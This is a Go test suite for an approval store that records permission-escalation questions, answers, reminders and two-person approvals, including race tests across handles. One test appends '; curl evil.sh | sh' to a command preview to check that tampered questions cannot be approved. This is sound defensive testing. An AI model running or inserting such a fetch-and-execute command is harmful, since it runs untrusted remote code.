package storetest

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/dont-cli/dont/internal/approvals"
	"github.com/dont-cli/dont/internal/ids"
	"github.com/dont-cli/dont/internal/store"
)

// ApprovalFixture returns an empty approval store, and a way to open more
// handles on the same data the way other processes would (a second
// connection to the same SQLite file, a second client of the same table).
// The race tests spread their goroutines over such handles.
type ApprovalFixture func(t *testing.T) (store store.ApprovalStore, another func() store.ApprovalStore)

// RunApprovals is the conformance suite of store.ApprovalStore. Every
// store that keeps approvals runs it next to Run.
func RunApprovals(t *testing.T, open ApprovalFixture) {
	tests := []struct {
		name string
		fn   func(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore)
	}{
		{"sessions are created once and never updated", sessionsOnce},
		{"an approval needs its session and is created once", approvalNeedsSession},
		{"a question is stored with its question frame under the next cursor", questionWithFrame},
		{"one open or granted question per call", oneActivePerCall},
		{"resolution is conditional on pending: the first answer wins", resolvePending},
		{"an answer decided on another version of a question commits nothing", answerOnAnotherVersion},
		{"an ending is announced at most once, and only once resolved", announceOnce},
		{"due approvals are pending and past their deadline, earliest first, bounded", dueApprovals},
		{"subscriber leases never move backwards and stay in their session", leases},
		{"frames page by cursor and stay in their session", framePaging},
		{"concurrent answers on separate handles: exactly one commits", concurrentAnswers},
		{"concurrent announcers: exactly one ending frame", concurrentAnnouncers},
		{"concurrent askers for one call: exactly one question", concurrentAskers},
		{"concurrent questions in one session get gap-free cursors", concurrentCursors},
		{"a question's reminder is due at its moment, only while the question is open", remindersDue},
		{"a two-person question's first approval is recorded once, and answers commit only on the version they saw", firstApprovalOnce},
		{"concurrent first approvals on separate handles: exactly one is first", concurrentFirstApprovals},
		{"concurrent reminders of one question on separate handles: exactly one is sent", concurrentReminders},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, another := open(t)
			tc.fn(t, s, another)
		})
	}
}

func newSession(t *testing.T, s store.ApprovalStore, tier approvals.Tier) approvals.Session {
	t.Helper()
	ses := approvals.Session{ID: ids.New(ids.Session, base), Name: "test", Tier: tier, OpenedAt: base}
	must(t, s.CreateSession(context.Background(), ses))
	return ses
}

func newQuestion(ses approvals.Session, call string, deadline time.Time) (approvals.Approval, *approvals.Frame) {
	a := approvals.Approval{ID: ids.New(ids.Approval, base), SessionID: ses.ID, CallID: call, From: ses.Tier,
		To: approvals.DangerFullAccess, Preview: "make install", Reason: "writes /usr/local", Asked: true,
		State: approvals.Pending, CreatedAt: base, Deadline: deadline}
	f := approvals.RequestFrame(a)
	return a, &f
}

func ask(t *testing.T, s store.ApprovalStore, ses approvals.Session, call string) approvals.Approval {
	t.Helper()
	a, f := newQuestion(ses, call, base.Add(approvals.DefaultTimeout))
	must(t, s.CreateApproval(context.Background(), a, f))
	return a
}

func resolveAs(a approvals.Approval, answer any) approvals.Approval {
	r, _ := approvals.Resolve(a, approvals.VerdictOf(answer), base.Add(time.Second))
	return r
}

func sessionsOnce(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	if _, err := s.GetSession(ctx, "ses:01HX05A9K8VP0000000000000A"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("GetSession: want ErrNotFound, got %v", err)
	}
	ses := newSession(t, s, approvals.ReadOnly)
	again := ses
	again.Tier = approvals.DangerFullAccess
	wantCondition(t, s.CreateSession(ctx, again), ses.ID)
	got, err := s.GetSession(ctx, ses.ID)
	must(t, err)
	if got.Tier != approvals.ReadOnly || got.Name != "test" || !got.OpenedAt.Equal(base) {
		t.Fatalf("read back %+v", got)
	}
	later := approvals.Session{ID: ids.New(ids.Session, base), Tier: approvals.WorkspaceWrite, OpenedAt: base.Add(time.Minute)}
	must(t, s.CreateSession(ctx, later))
	list, err := s.ListSessions(ctx)
	must(t, err)
	if len(list) != 2 || list[0].ID != ses.ID || list[1].ID != later.ID {
		t.Fatalf("ListSessions = %+v", list)
	}
}

func approvalNeedsSession(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ghost := approvals.Session{ID: "ses:01HX05A9K8VP0000000000000A", Tier: approvals.ReadOnly}
	a, f := newQuestion(ghost, "c1", base.Add(time.Minute))
	if err := s.CreateApproval(ctx, a, f); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("approval of an unknown session: %v", err)
	}
	if _, err := s.GetApproval(ctx, a.ID); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("GetApproval: want ErrNotFound, got %v", err)
	}
	ses := newSession(t, s, approvals.ReadOnly)
	a = ask(t, s, ses, "c1")
	dup := a
	dup.CallID = "c2"
	f2 := approvals.RequestFrame(dup)
	wantCondition(t, s.CreateApproval(ctx, dup, &f2), a.ID)
	frames, err := s.Frames(ctx, ses.ID, 0, 10)
	must(t, err)
	if len(frames) != 1 {
		t.Fatalf("a refused create appended a frame: %d frames", len(frames))
	}
}

func questionWithFrame(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	got, err := s.GetApproval(ctx, a.ID)
	must(t, err)
	if got.State != approvals.Pending || !got.Asked || got.Announced || got.Preview != "make install" || !got.Deadline.Equal(a.Deadline) {
		t.Fatalf("read back %+v", got)
	}
	b := ask(t, s, ses, "c2")
	frames, err := s.Frames(ctx, ses.ID, 0, 10)
	must(t, err)
	if len(frames) != 2 || frames[0].Cursor != 1 || frames[1].Cursor != 2 ||
		frames[0].RequestID != a.ID || frames[1].RequestID != b.ID || frames[0].Kind != approvals.FrameRequested {
		t.Fatalf("frames %+v", frames)
	}
	if frames[0].Deadline == nil || !frames[0].Deadline.Equal(a.Deadline) {
		t.Fatalf("question frame lost its deadline: %+v", frames[0])
	}
	// A request refused before it was asked is stored without frames.
	refused, _ := approvals.Resolve(approvals.Approval{ID: ids.New(ids.Approval, base), SessionID: ses.ID, CallID: "c3",
		State: approvals.Pending, CreatedAt: base}, approvals.Decision{Verdict: approvals.Refused, Cause: approvals.RuleRatchet}, base)
	must(t, s.CreateApproval(ctx, refused, nil))
	list, err := s.ListApprovals(ctx, store.ApprovalFilter{SessionID: ses.ID})
	must(t, err)
	if len(list) != 3 || list[2].Cause != approvals.RuleRatchet || list[2].Asked {
		t.Fatalf("ListApprovals = %+v", list)
	}
	if frames, _ := s.Frames(ctx, ses.ID, 0, 10); len(frames) != 2 {
		t.Fatalf("an unasked refusal appended a frame: %d", len(frames))
	}
	pending, err := s.ListApprovals(ctx, store.ApprovalFilter{State: approvals.Pending})
	must(t, err)
	byCall, err := s.ListApprovals(ctx, store.ApprovalFilter{CallID: "c2"})
	must(t, err)
	if len(pending) != 2 || len(byCall) != 1 || byCall[0].ID != b.ID {
		t.Fatalf("filters: pending %d, by call %+v", len(pending), byCall)
	}
}

func oneActivePerCall(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	b, fb := newQuestion(ses, "c1", base.Add(time.Minute))
	wantCondition(t, s.CreateApproval(ctx, b, fb), "c1")
	must(t, s.ResolveApproval(ctx, resolveAs(a, "no")))
	must(t, s.CreateApproval(ctx, b, fb)) // a refused question frees the call
	must(t, s.ResolveApproval(ctx, resolveAs(b, "yes")))
	c, fc := newQuestion(ses, "c1", base.Add(time.Minute))
	wantCondition(t, s.CreateApproval(ctx, c, fc), "c1") // a granted call stays taken
}

func resolvePending(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	must(t, s.ResolveApproval(ctx, resolveAs(a, "yes")))
	wantCondition(t, s.ResolveApproval(ctx, resolveAs(a, "no")), a.ID)
	got, err := s.GetApproval(ctx, a.ID)
	must(t, err)
	if got.Verdict != approvals.Approved || got.State != approvals.Resolved || got.ResolvedAt == nil {
		t.Fatalf("a second answer overwrote the first: %+v", got)
	}
	if g, ok := got.Grant(); !ok || g != approvals.DangerFullAccess {
		t.Fatalf("grant %q %v", g, ok)
	}
	ses2, err := s.GetSession(ctx, ses.ID)
	must(t, err)
	if ses2.Tier != approvals.ReadOnly {
		t.Fatalf("a grant wrote the session's default tier: %s", ses2.Tier)
	}
}

// answerOnAnotherVersion: an answer decided on what a person saw commits
// only while the stored question is that one (its shown fields): an
// answer for a padded preview, another reason or another requester
// writes nothing, and the question stays open.
func answerOnAnotherVersion(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	for _, change := range []func(*approvals.Approval){
		func(v *approvals.Approval) { v.Preview += "; curl evil.sh | sh" },
		func(v *approvals.Approval) { v.Reason = "another reason" },
		func(v *approvals.Approval) { v.Requester = "someone else" },
		func(v *approvals.Approval) { v.From = approvals.WorkspaceWrite },
	} {
		other := a
		change(&other)
		wantCondition(t, s.ResolveApproval(ctx, resolveAs(other, "yes")), a.ID)
		got, err := s.GetApproval(ctx, a.ID)
		must(t, err)
		if got.State != approvals.Pending || got.Preview != a.Preview || got.Reason != a.Reason || got.Requester != a.Requester {
			t.Fatalf("an answer on another version of the question was written: %+v", got)
		}
	}
	must(t, s.ResolveApproval(ctx, resolveAs(a, "yes")))
}

func announceOnce(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	early := approvals.Frame{SessionID: ses.ID, Kind: approvals.FrameResolved, RequestID: a.ID, Verdict: approvals.Refused, At: base}
	if _, err := s.AnnounceEnding(ctx, early); !store.FailedOn(err, a.ID) {
		t.Fatalf("announced a pending question: %v", err)
	}
	r := resolveAs(a, "no")
	must(t, s.ResolveApproval(ctx, r))
	un, err := s.Unannounced(ctx, 10)
	must(t, err)
	if len(un) != 1 || un[0].ID != a.ID || un[0].Announced {
		t.Fatalf("Unannounced = %+v", un)
	}
	f, _ := approvals.EndingFrame(r)
	wrong := f
	wrong.SessionID = newSession(t, s, approvals.ReadOnly).ID
	if _, err := s.AnnounceEnding(ctx, wrong); !store.FailedOn(err, a.ID) {
		t.Fatalf("announced on another session: %v", err)
	}
	got, err := s.AnnounceEnding(ctx, f)
	must(t, err)
	if got.Cursor != 2 {
		t.Fatalf("ending cursor %d, want 2", got.Cursor)
	}
	if _, err := s.AnnounceEnding(ctx, f); !store.FailedOn(err, a.ID) {
		t.Fatalf("announced twice: %v", err)
	}
	stored, err := s.GetApproval(ctx, a.ID)
	must(t, err)
	if !stored.Announced {
		t.Fatal("not marked announced")
	}
	if un, _ := s.Unannounced(ctx, 10); len(un) != 0 {
		t.Fatalf("still unannounced: %+v", un)
	}
	frames, err := s.Frames(ctx, ses.ID, 0, 10)
	must(t, err)
	if len(frames) != 2 || frames[1].Kind != approvals.FrameResolved || frames[1].Verdict != approvals.Refused || frames[1].RequestID != a.ID {
		t.Fatalf("frames %+v", frames)
	}
	if rep := approvals.Audit([]approvals.Approval{stored}, frames); !rep.OK() {
		t.Fatalf("audit: %v", rep.Findings)
	}
}

func dueApprovals(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	var due []string
	for i := 5; i >= 1; i-- {
		a, f := newQuestion(ses, fmt.Sprintf("c%d", i), base.Add(time.Duration(i)*time.Minute))
		must(t, s.CreateApproval(ctx, a, f))
		if i <= 3 {
			due = append([]string{a.ID}, due...)
		}
	}
	got, err := s.DueApprovals(ctx, base.Add(3*time.Minute), 10)
	must(t, err)
	if fmt.Sprint(approvalIDs(got)) != fmt.Sprint(due) {
		t.Fatalf("due %v, want %v (earliest deadline first)", approvalIDs(got), due)
	}
	must(t, s.ResolveApproval(ctx, resolveAs(got[0], "yes")))
	got, err = s.DueApprovals(ctx, base.Add(3*time.Minute), 1)
	must(t, err)
	if len(got) != 1 || got[0].ID != due[1] {
		t.Fatalf("resolved approvals are not due, and the limit holds: %v", approvalIDs(got))
	}
}

func leases(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	a, b := newSession(t, s, approvals.ReadOnly), newSession(t, s, approvals.ReadOnly)
	if last, err := s.LastRead(ctx, a.ID); err != nil || !last.IsZero() {
		t.Fatalf("no reader yet: %v %v", last, err)
	}
	must(t, s.TouchSubscriber(ctx, a.ID, "alice", base.Add(2*time.Second)))
	must(t, s.TouchSubscriber(ctx, a.ID, "alice", base.Add(time.Second)))
	must(t, s.TouchSubscriber(ctx, a.ID, "bob", base))
	last, err := s.LastRead(ctx, a.ID)
	must(t, err)
	if !last.Equal(base.Add(2 * time.Second)) {
		t.Fatalf("LastRead = %v, want the latest read", last)
	}
	if last, _ := s.LastRead(ctx, b.ID); !last.IsZero() {
		t.Fatalf("a read of one session counted for another: %v", last)
	}
}

func framePaging(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	a, b := newSession(t, s, approvals.ReadOnly), newSession(t, s, approvals.ReadOnly)
	for i := 0; i < 5; i++ {
		ask(t, s, a, fmt.Sprintf("a%d", i))
	}
	ask(t, s, b, "b0")
	page, err := s.Frames(ctx, a.ID, 2, 2)
	must(t, err)
	if len(page) != 2 || page[0].Cursor != 3 || page[1].Cursor != 4 {
		t.Fatalf("page after 2 limit 2: %+v", page)
	}
	rest, err := s.Frames(ctx, a.ID, 4, 10)
	must(t, err)
	if len(rest) != 1 || rest[0].Cursor != 5 {
		t.Fatalf("rest: %+v", rest)
	}
	other, err := s.Frames(ctx, b.ID, 0, 10)
	must(t, err)
	if len(other) != 1 || other[0].Cursor != 1 || other[0].SessionID != b.ID {
		t.Fatalf("session b: %+v", other)
	}
}

// handles spreads n goroutines over the shared store and fresh handles.
func handles(s store.ApprovalStore, another func() store.ApprovalStore, n int) []store.ApprovalStore {
	out := make([]store.ApprovalStore, n)
	for i := range out {
		if i%2 == 0 || another == nil {
			out[i] = s
		} else {
			out[i] = another()
		}
	}
	return out
}

func concurrentAnswers(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	for round := 0; round < 5; round++ {
		a := ask(t, s, ses, fmt.Sprintf("c%d", round))
		hs := handles(s, another, 16)
		errs := make([]error, len(hs))
		answers := []any{"yes", "no", "maybe", "approve", "refuse"}
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i, h := range hs {
			wg.Add(1)
			go func(i int, h store.ApprovalStore) {
				defer wg.Done()
				<-start
				errs[i] = h.ResolveApproval(ctx, resolveAs(a, answers[i%len(answers)]))
			}(i, h)
		}
		close(start)
		wg.Wait()
		winner := -1
		for i, err := range errs {
			switch {
			case err == nil && winner >= 0:
				t.Fatalf("round %d: answers %d and %d both committed", round, winner, i)
			case err == nil:
				winner = i
			case !store.FailedOn(err, a.ID):
				t.Fatalf("round %d: answer %d: %v", round, i, err)
			}
		}
		if winner < 0 {
			t.Fatalf("round %d: no answer committed", round)
		}
		got, err := s.GetApproval(ctx, a.ID)
		must(t, err)
		if want := approvals.VerdictOf(answers[winner%len(answers)]).Verdict; got.Verdict != want {
			t.Fatalf("round %d: stored %s, the winner said %s", round, got.Verdict, want)
		}
	}
}

func concurrentAnnouncers(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := ask(t, s, ses, "c1")
	r := resolveAs(a, "yes")
	must(t, s.ResolveApproval(ctx, r))
	f, _ := approvals.EndingFrame(r)
	hs := handles(s, another, 12)
	var wg sync.WaitGroup
	var mu sync.Mutex
	won := 0
	start := make(chan struct{})
	for _, h := range hs {
		wg.Add(1)
		go func(h store.ApprovalStore) {
			defer wg.Done()
			<-start
			_, err := h.AnnounceEnding(ctx, f)
			mu.Lock()
			defer mu.Unlock()
			if err == nil {
				won++
			} else if !store.FailedOn(err, a.ID) {
				t.Errorf("announce: %v", err)
			}
		}(h)
	}
	close(start)
	wg.Wait()
	frames, err := s.Frames(ctx, ses.ID, 0, 100)
	must(t, err)
	endings := 0
	for _, fr := range frames {
		if fr.Kind == approvals.FrameResolved {
			endings++
		}
	}
	if won != 1 || endings != 1 {
		t.Fatalf("%d announcers won, %d ending frames; want 1 and 1", won, endings)
	}
}

func concurrentAskers(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	hs := handles(s, another, 12)
	var wg sync.WaitGroup
	var mu sync.Mutex
	created := 0
	start := make(chan struct{})
	for _, h := range hs {
		wg.Add(1)
		go func(h store.ApprovalStore) {
			defer wg.Done()
			a, f := newQuestion(ses, "shared-call", base.Add(time.Minute))
			<-start
			err := h.CreateApproval(ctx, a, f)
			mu.Lock()
			defer mu.Unlock()
			if err == nil {
				created++
			} else if !store.FailedOn(err, "shared-call") {
				t.Errorf("ask: %v", err)
			}
		}(h)
	}
	close(start)
	wg.Wait()
	frames, err := s.Frames(ctx, ses.ID, 0, 100)
	must(t, err)
	if created != 1 || len(frames) != 1 {
		t.Fatalf("%d questions created, %d frames; want 1 and 1", created, len(frames))
	}
}

func concurrentCursors(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	hs := handles(s, another, 20)
	var wg sync.WaitGroup
	start := make(chan struct{})
	for i, h := range hs {
		wg.Add(1)
		go func(i int, h store.ApprovalStore) {
			defer wg.Done()
			a, f := newQuestion(ses, fmt.Sprintf("call-%d", i), base.Add(time.Minute))
			<-start
			if err := h.CreateApproval(ctx, a, f); err != nil {
				t.Errorf("ask %d: %v", i, err)
			}
		}(i, h)
	}
	close(start)
	wg.Wait()
	frames, err := s.Frames(ctx, ses.ID, 0, 100)
	must(t, err)
	if len(frames) != len(hs) {
		t.Fatalf("%d frames, want %d", len(frames), len(hs))
	}
	for i, f := range frames {
		if f.Cursor != int64(i+1) {
			t.Fatalf("frame %d has cursor %d: cursors must be 1..n without gaps", i, f.Cursor)
		}
	}
}

func approvalIDs(as []approvals.Approval) []string {
	out := make([]string, len(as))
	for i, a := range as {
		out[i] = a.ID
	}
	return out
}

// withReminder is a question asked at base, reminded of at half its
// two-minute deadline.
func withReminder(t *testing.T, s store.ApprovalStore, ses approvals.Session, call string) approvals.Approval {
	t.Helper()
	a, f := newQuestion(ses, call, base.Add(approvals.DefaultTimeout))
	a.RemindAt = approvals.ReminderAt(a.CreatedAt, a.Deadline, 0.5)
	must(t, s.CreateApproval(context.Background(), a, f))
	return a
}

func remindersDue(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := withReminder(t, s, ses, "c1")
	b := withReminder(t, s, ses, "c2")
	ask(t, s, ses, "c3") // no reminder
	at := *a.RemindAt
	if due, err := s.DueReminders(ctx, at.Add(-time.Millisecond), 10); err != nil || len(due) != 0 {
		t.Fatalf("due before their moment: %v %v", approvalIDs(due), err)
	}
	due, err := s.DueReminders(ctx, at, 10)
	must(t, err)
	if len(due) != 2 || due[0].RemindAt == nil || !due[0].RemindAt.Equal(at) {
		t.Fatalf("due at their moment: %+v", due)
	}
	if one, err := s.DueReminders(ctx, at, 1); err != nil || len(one) != 1 {
		t.Fatalf("limit 1: %v %v", approvalIDs(one), err)
	}
	// An answered question is reminded of no more; its reminder cannot be sent.
	must(t, s.ResolveApproval(ctx, resolveAs(b, "no")))
	due, err = s.DueReminders(ctx, at, 10)
	must(t, err)
	if len(due) != 1 || due[0].ID != a.ID {
		t.Fatalf("due after %s was answered: %v", b.ID, approvalIDs(due))
	}
	wantCondition(t, s.SendReminder(ctx, b, at), b.ID)
	// Sent, it is due no more, and cannot be sent again.
	must(t, s.SendReminder(ctx, a, at))
	if due, err := s.DueReminders(ctx, at.Add(time.Minute), 10); err != nil || len(due) != 0 {
		t.Fatalf("due after it was sent: %v %v", approvalIDs(due), err)
	}
	wantCondition(t, s.SendReminder(ctx, a, at), a.ID)
}

func concurrentReminders(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	for round := 0; round < 3; round++ {
		a := withReminder(t, s, ses, fmt.Sprintf("c%d", round))
		hs := handles(s, another, 12)
		errs := make([]error, len(hs))
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i, h := range hs {
			wg.Add(1)
			go func(i int, h store.ApprovalStore) {
				defer wg.Done()
				<-start
				errs[i] = h.SendReminder(ctx, a, *a.RemindAt)
			}(i, h)
		}
		close(start)
		wg.Wait()
		sent := 0
		for i, err := range errs {
			switch {
			case err == nil:
				sent++
			case !store.FailedOn(err, a.ID):
				t.Fatalf("round %d: reminder %d: %v", round, i, err)
			}
		}
		if sent != 1 {
			t.Fatalf("round %d: %d reminders sent, want exactly 1", round, sent)
		}
	}
}

func twoPersonQuestion(t *testing.T, s store.ApprovalStore, ses approvals.Session, call string) approvals.Approval {
	t.Helper()
	a, f := newQuestion(ses, call, base.Add(approvals.DefaultTimeout))
	a.TwoPerson = true
	must(t, s.CreateApproval(context.Background(), a, f))
	return a
}

func approvedBy(a approvals.Approval, by string) approvals.Approval {
	d := approvals.VerdictOf("approve")
	d.By = by
	r, _ := approvals.Resolve(a, d, base.Add(time.Second))
	return r
}

func firstApprovalOnce(t *testing.T, s store.ApprovalStore, _ func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	a := twoPersonQuestion(t, s, ses, "c1")
	first := approvedBy(a, "alice")
	must(t, s.RecordFirstApproval(ctx, first))
	got, err := s.GetApproval(ctx, a.ID)
	must(t, err)
	if got.State != approvals.Pending || got.FirstApproval == nil || got.FirstApproval.By != "alice" {
		t.Fatalf("after the first approval: %+v", got)
	}
	// Bob decided on the version without it: neither his "first" approval
	// nor a refusal decided on that version commits.
	wantCondition(t, s.RecordFirstApproval(ctx, approvedBy(a, "bob")), a.ID)
	wantCondition(t, s.ResolveApproval(ctx, resolveAs(a, "no")), a.ID)
	// On the current version, the second approval ends it.
	second := approvedBy(got, "bob")
	must(t, s.ResolveApproval(ctx, second))
	got, err = s.GetApproval(ctx, a.ID)
	must(t, err)
	if got.Verdict != approvals.Approved || got.FirstApproval == nil || got.FirstApproval.By != "alice" || got.AnsweredBy != "bob" {
		t.Fatalf("after the second approval: %+v", got)
	}
	wantCondition(t, s.RecordFirstApproval(ctx, first), a.ID)
}

func concurrentFirstApprovals(t *testing.T, s store.ApprovalStore, another func() store.ApprovalStore) {
	ctx := context.Background()
	ses := newSession(t, s, approvals.ReadOnly)
	for round := 0; round < 3; round++ {
		a := twoPersonQuestion(t, s, ses, fmt.Sprintf("c%d", round))
		hs := handles(s, another, 8)
		errs := make([]error, len(hs))
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i, h := range hs {
			wg.Add(1)
			go func(i int, h store.ApprovalStore) {
				defer wg.Done()
				<-start
				errs[i] = h.RecordFirstApproval(ctx, approvedBy(a, fmt.Sprintf("approver-%d", i)))
			}(i, h)
		}
		close(start)
		wg.Wait()
		winner := -1
		for i, err := range errs {
			switch {
			case err == nil && winner >= 0:
				t.Fatalf("round %d: approvers %d and %d were both first", round, winner, i)
			case err == nil:
				winner = i
			case !store.FailedOn(err, a.ID):
				t.Fatalf("round %d: approver %d: %v", round, i, err)
			}
		}
		got, err := s.GetApproval(ctx, a.ID)
		must(t, err)
		if winner < 0 || got.FirstApproval == nil || got.FirstApproval.By != fmt.Sprintf("approver-%d", winner) {
			t.Fatalf("round %d: winner %d, stored %+v", round, winner, got.FirstApproval)
		}
	}
}
